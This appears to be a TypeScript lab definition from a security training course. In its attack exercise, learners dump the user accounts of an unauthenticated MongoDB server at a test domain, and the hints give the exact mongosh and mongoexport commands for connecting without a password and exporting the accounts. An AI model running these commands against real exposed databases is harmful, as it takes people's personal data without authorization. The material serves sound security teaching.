import type { LabDefinition } from '../../checks/types.ts';
import { exportHoldsAccounts, logShowsAnonymousReads } from '../../checks/library/evidence-checks.ts';

const lesson = '03-the-open-door';
const at = (heading: string): string => `${lesson}#${heading}`;

const lab: LabDefinition = {
  meta: {
    id: 'open-door',
    title: 'Walk through the open door',
    kind: 'attack',
    lesson,
    labSection: 'lab-walk-through-the-open-door',
    editable: ['notes.md'],
    goal: 'Connect to the database without a password, list its databases and collections, and export the accounts to downloads/.',
    challenge: {
      brief: "The database you found lets anyone in. Show it: connect without a password, list its databases and collections, read an account, and export every account to downloads/.",
      hints: [
        "A MongoDB client connects with just a host and port when authorization is off. The lab has mongosh and mongoexport.",
        "`mongosh mongodb://db.cloudpets.test:27017`, then `show dbs`, `use cloudpets`, `show collections`, `db.users.findOne()`.",
        "After the mongosh session above: `mkdir -p downloads` and `mongoexport --uri mongodb://db.cloudpets.test:27017 --db cloudpets --collection users --out downloads/users.jsonl`. Run `checks`.",
      ],
    },
  },
  checks: [
    logShowsAnonymousReads(at('step-2-list-the-databases-and-collections')),
    exportHoldsAccounts(at('step-4-export-the-accounts')),
  ],
};

export default lab;
